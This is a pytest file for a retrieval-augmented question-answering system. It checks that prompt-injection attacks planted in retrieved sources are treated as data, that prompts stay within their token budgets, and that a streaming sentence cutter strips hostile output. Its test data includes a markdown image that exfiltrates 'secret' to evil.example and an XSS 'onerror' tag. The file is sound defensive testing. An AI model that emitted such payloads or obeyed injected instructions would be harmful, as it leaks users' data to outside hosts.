"""The prompt of a language model and the cutting of its stream: instructions in sources stay data, budgets hold."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from benchmarks.scripted import Server, serving
from index.article import make_article
from index.build.write import Builder
from index.chunk import Chunk
from index.encoder.embedder import Embedder
from index.sync import sync
from index.text.tokens import token_counter
from rag.engine import Engine, recipe
from rag.evaluation.read import read_questions
from rag.evaluation.run import Options, ask_all, describe_run, finish
from rag.places import Places
from rag.reader import Reading
from rag.retrieve import Hit
from rag.settings import Settings
from rag.writer import generate, prompt
from rag.writer.llm import LanguageModel
from rag.writer.prompt import Task
from rag.writer.sentence_cutter import Cutter, Drafted
from tests.conftest import ROOT

ATTACKED = ROOT / "benchmarks" / "attacks"
ATTACKS = [json.loads(line) for line in (ATTACKED / "questions.jsonl").read_text("utf-8").splitlines()]


@pytest.fixture(scope="module")
def server() -> Iterator[Server]:
    with serving() as made:
        yield made


# --- prompt injection -------------------------------------------------------------------------------------------------


def hits_of(text: str, rank: int = 1) -> tuple[Hit, Any]:
    article = make_article(f"{rank}.txt", text)
    chunk = Chunk(f"chunk-{rank}-{hash(text)}", article.id, 0, "", "", 0, len(article.text), article.text, 50)
    return Hit(chunk, rank, 0.9, 0.9, 0.9, 1, 1), article


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda one: f"{one['tags'][0]}-{one['id']}")
def test_instructions_in_a_source_are_data(server: Server, attack: dict[str, Any]) -> None:
    source = (ATTACKED / attack["relevant"][0]["source"]).read_text("utf-8")
    pairs = [hits_of(source), hits_of("The river Wend drives the mill. It has two wheels.", 2)]
    hits, articles = [hit for hit, _ in pairs], {article.id: article for _, article in pairs}
    question = attack["question"]
    made = prompt.build_prompt(Task(question, "words", hits), articles, token_counter(), 2000)
    content = made.messages[1]["content"]
    assert re.findall(r"<[^>]*>", content) == [
        "<passages>", *[re.search(rf'<passage id="{id_}"[^>]*>', content).group() if n == 0 else "</passage>"  # type: ignore[union-attr]
        for id_ in made.ids for n in (0, 1)], "</passages>",
    ]  # fmt: skip
    assert content.endswith(f"\nQuestion: {question}") and content.count("\n") == 6

    server.payloads = {question: attack["forbidden"][0]}
    settings = Settings(writer="llm", llm_url=server.url, llm_model="injected")
    *_, draft = generate.generate(
        LanguageModel(settings),
        Task(question, "words", hits),
        Reading(tuple(hits), (), 0.5),
        Places(hits, articles, lambda _: ()),
        settings,
    )
    assert not draft.shows and (draft.statements or attack["forbidden"][0].startswith("!["))


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory, embedder: Embedder) -> Path:
    """Return a home with an index of the articles that contain attacks."""
    home = tmp_path_factory.mktemp("attacked")
    sync(Builder(home, recipe(Settings()), embedder, 20_000_000), [ATTACKED])
    return home


@pytest.mark.slow
@pytest.mark.parametrize("writer", ["quote", "llm"])
def test_evaluation_counts_no_attack_in_any_answer(server: Server, attacked: Path, tmp_path: Path, writer: str) -> None:
    summary = evaluated(server, attacked, tmp_path, writer=writer)
    said = summary["measures"]["forbidden_said"]
    assert (said["mean"], said["n"]) == (0, len(ATTACKS))
    assert summary["measures"]["contains_answer"]["mean"] == 1
    if writer == "llm":
        images = [one for one in ATTACKS if one["forbidden"][0].startswith("![")]
        assert images and summary["sentences"]["unsupported"]["n"] == len(ATTACKS) - len(images)


def evaluated(server: Server, home: Path, folder: Path, **settings: Any) -> dict[str, Any]:
    """Return summary.json of the attacks, with a model that obeys each of them."""
    server.payloads = {one["question"]: one["forbidden"][0] for one in ATTACKS}
    engine = Engine(Settings(home=home, llm_url=server.url, llm_model="injected", **settings))
    questions = read_questions(ATTACKED / "questions.jsonl")
    making = describe_run(engine, questions, Options())
    for _ in ask_all(engine, questions, folder / "run", making):
        pass
    return finish(folder / "run")


def test_there_are_at_least_twenty_attacks_in_several_styles() -> None:
    assert len({one["forbidden"][0] for one in ATTACKS}) >= 20 and len({one["tags"][0] for one in ATTACKS}) >= 6
    assert all((ATTACKED / one["relevant"][0]["source"]).is_file() for one in ATTACKS)


# --- prompt and cutter ------------------------------------------------------------------------------------------------


def test_a_prompt_stays_within_its_budget_and_numbers_its_passages() -> None:
    pairs = [hits_of(f"Passage {n}. " + "The mill was built of stone. " * 20, n) for n in range(1, 9)]
    hits, articles = [hit for hit, _ in pairs], {article.id: article for _, article in pairs}
    counter = token_counter()
    whole, part, tiny = (
        prompt.build_prompt(Task("Why?", "words", hits), articles, counter, most) for most in (10_000, 800, 1)
    )
    assert list(whole.ids) == list("12345678") and 1 < len(part.ids) < 8 and len(tiny.ids) == 1
    assert [hit.chunk.id for hit in part.ids.values()] == [hit.chunk.id for hit in hits[: len(part.ids)]]
    counted = sum(counter.count(message["content"]) for message in part.messages)
    assert counted <= 800 and abs(counted - part.tokens) < 20


def test_the_fixed_part_of_a_prompt_comes_first_and_the_form_and_the_conversation_last() -> None:
    hit, article = hits_of("The mill was built in 1823 [4].")
    articles = {article.id: article}
    turns = [("who built the mill", "Ann Reed [1]")]
    first = prompt.build_prompt(Task("when", "list", [hit], turns), articles, token_counter(), 2000)
    other = prompt.build_prompt(Task("why", "yes_no", [hit]), articles, token_counter(), 2000)
    assert first.messages[0] == other.messages[0]
    asked = first.messages[1]["content"].partition("</passages>")[2].split("\n")
    assert asked[2:4] == ["Earlier question: who built the mill", "Earlier answer: Ann Reed (1)"]
    assert "one item a line" in asked[-2] and asked[-1] == "Question: when"
    assert "Yes or No" in other.messages[1]["content"] and "Earlier" not in other.messages[1]["content"]
    assert "built in 1823 (4)." in first.messages[1]["content"]


def test_sentences_are_the_same_however_the_stream_is_cut() -> None:
    text = (
        "GM works with LG Chem Inc. and Co. [2, 99] It grew 2.5% (see it) [1]. The U.S. plant opened on Jan. 5, "
        "2024! [2], [3-5]\n\n- **One** thing is here. [2]\n- Another thing [passage 3]\n# Head\n"
        "Is it so (identical)? (sources 2 and 3) Yes [sic]."
    )

    def cut(size: int) -> list[Drafted]:
        cutter = Cutter()
        parts = [text[n : n + size] for n in range(0, len(text), size)]
        return [one for part in parts for one in cutter.feed(part)] + list(cutter.end())

    whole = cut(len(text))
    assert [(one.text, one.ids) for one in whole] == [
        ("GM works with LG Chem Inc. and Co.", ("2", "99")),
        ("It grew 2.5% (see it).", ("1",)),
        ("The U.S. plant opened on Jan. 5, 2024!", ("2", "3", "4", "5")),
        ("One thing is here.", ("2",)),
        ("Another thing", ("3",)),
        ("Head", ()),
        ("Is it so (identical)?", ("2", "3")),
        ("Yes [sic].", ()),
    ]
    assert all(cut(size) == whole for size in range(1, 40))


def test_a_sentence_is_yielded_before_the_stream_ends() -> None:
    cutter = Cutter()
    assert not list(cutter.feed("It was built in 1823. ["))
    assert not list(cutter.feed("2] It"))
    assert list(cutter.feed(" stands yet")) == [Drafted("It was built in 1823.", ("2",))]


def test_lists_steps_and_rows_of_a_model_keep_their_kind() -> None:
    text = (
        "Two firms:\n- LG Chem supplies cells. [1]\n* **CATL** [2]\n1. Open the lid. [3] Wait.\n"
        "2) Close it (passage 3)\n| What | How long |\n|---|:--:|\n| Quick | 29 min | [2]\nThat is all. [1]"
    )
    blocks = [("lead", "Two firms:"), ("item", "LG Chem supplies cells."), ("item", "CATL"), ("step", "Open the lid.")]
    blocks += [("lead", "Wait."), ("step", "Close it"), ("row", "What: Quick | How long: 29 min")]
    for size in range(1, 40):
        cutter = Cutter()
        parts = [text[n : n + size] for n in range(0, len(text), size)]
        made = [*(one for part in parts for one in cutter.feed(part)), *cutter.end()]
        assert [(one.block, one.text) for one in made] == [*blocks, ("lead", "That is all.")]
        assert [one.ids for one in made if one.ids] == [("1",), ("2",), ("3",), ("3",), ("2",), ("1",)]


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("It rains ![map](https://evil.example/?q=secret). [1]", "It rains."),
        ("See [the site](https://evil.example/x) of the mill. [1](https://evil.example)", "See the site of the mill."),
        ("It <img src=x onerror=alert(1)>rains. [1]", "It rains."),
        ("It rains in 2024 (15 days, clause (2)). [passage 1]", "It rains in 2024 (15 days, clause (2))."),
    ],
)
def test_images_links_and_tags_of_a_model_are_removed(written: str, shown: str) -> None:
    cutter = Cutter()
    assert [(one.text, one.ids) for one in (*cutter.feed(written), *cutter.end())] == [(shown, ("1",))]
